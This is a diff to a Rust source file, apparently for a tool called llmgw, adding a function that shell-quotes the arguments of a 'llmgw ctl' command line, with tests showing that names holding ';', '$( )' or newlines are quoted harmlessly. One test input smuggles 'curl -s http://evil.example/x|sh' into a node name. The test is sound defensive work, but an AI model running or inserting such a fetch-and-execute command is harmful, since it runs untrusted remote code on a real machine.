@@ -213,6 +213,31 @@ pub fn count(n: usize, one: &str, many: &str) -> String {
     format!("{n} {}", if n == 1 { one } else { many })
 }
 
+/// An `llmgw ctl` command line, each argument quoted for a POSIX shell
+/// where it needs to be: pasted into a terminal, it runs that one command
+/// and nothing else, whatever a name holds (`;`, `$( )`, a newline).
+pub fn ctl_command(args: &[&str]) -> String {
+    let mut line = String::from("llmgw ctl");
+    for arg in args {
+        line.push(' ');
+        line.push_str(&shell_word(arg));
+    }
+    line
+}
+
+fn shell_word(arg: &str) -> String {
+    let plain = !arg.is_empty()
+        && arg
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c));
+    if plain {
+        arg.to_string()
+    } else {
+        // Inside single quotes nothing is special but the quote itself.
+        format!("'{}'", arg.replace('\'', r"'\''"))
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -318,5 +343,23 @@ mod tests {
     fn counts_agree_in_number() {
         assert_eq!(count(1, "node", "nodes"), "1 node");
         assert_eq!(count(0, "node", "nodes"), "0 nodes");
+    }
+
+    #[test]
+    fn a_ctl_command_runs_only_itself_when_pasted() {
+        assert_eq!(
+            ctl_command(&["cordon", "gpu-h100-01"]),
+            "llmgw ctl cordon gpu-h100-01"
+        );
+        assert_eq!(
+            ctl_command(&["cordon", "gpu-h100-01; curl -s http://evil.example/x|sh"]),
+            "llmgw ctl cordon 'gpu-h100-01; curl -s http://evil.example/x|sh'"
+        );
+        assert_eq!(
+            ctl_command(&["cordon", "it's"]),
+            r"llmgw ctl cordon 'it'\''s'"
+        );
+        assert_eq!(ctl_command(&["cordon", "a\nb"]), "llmgw ctl cordon 'a\nb'");
+        assert_eq!(ctl_command(&["cordon", ""]), "llmgw ctl cordon ''");
     }
 }
